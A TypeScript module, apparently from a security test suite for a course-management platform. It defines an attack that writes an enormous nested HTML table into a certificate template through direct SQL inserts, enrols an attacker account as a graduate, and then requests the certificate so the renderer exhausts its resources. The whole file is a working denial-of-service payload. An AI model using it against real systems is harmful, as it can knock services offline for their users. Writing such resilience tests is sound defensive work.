import { setTimeout as wait } from 'node:timers/promises';
import type { Attack, Target } from './attack.ts';

/** A table that is laid out again and again and never fits its page. */
const hostileTemplate = `<table>${`<tr>${'<td><table><tr><td>x y z</td><td>{{course_name}}</td></tr></table></td>'.repeat(12)}</tr>`.repeat(400)}</table>`;

/** The attacker has completed a course whose certificate has that template. Returns the enrolment. */
const makeGraduate = async ({ pool, attackerId }: Target): Promise<number> => {
  const { rows } = await pool.query<{ id: number }>(
    `with template as (
       insert into certification_templates (name, html_template) values ('Ostile', $2) returning id
     ), course as (
       insert into courses (name, code, slug, status, has_certification, certification_template_id)
       select 'Corso ostile', 'OST', 'corso-ostile', 'STR', true, id from template returning id
     )
     insert into subscriptions (user_id, course_id, status_etiquette, is_passed, completion_date)
     select $1, id, 'END', true, now() from course returning id`,
    [attackerId, hostileTemplate],
  );
  return rows[0]?.id ?? 0;
};

/** Milliseconds the drawing is watched for. */
const watched = 45_000;

/** A certificate whose template does not end. */
export const hostileCertificate: Attack = {
  name: 'attestato con un modello ostile',
  async prepare(target) {
    const id = await makeGraduate(target);
    return async () => {
      const headers = { authorization: `Bearer ${target.bearer}` };
      const { status } = await fetch(`${target.address}/api/v1/certificates/${id}/`, { headers });
      await wait(watched);
      return String(status);
    };
  },
};
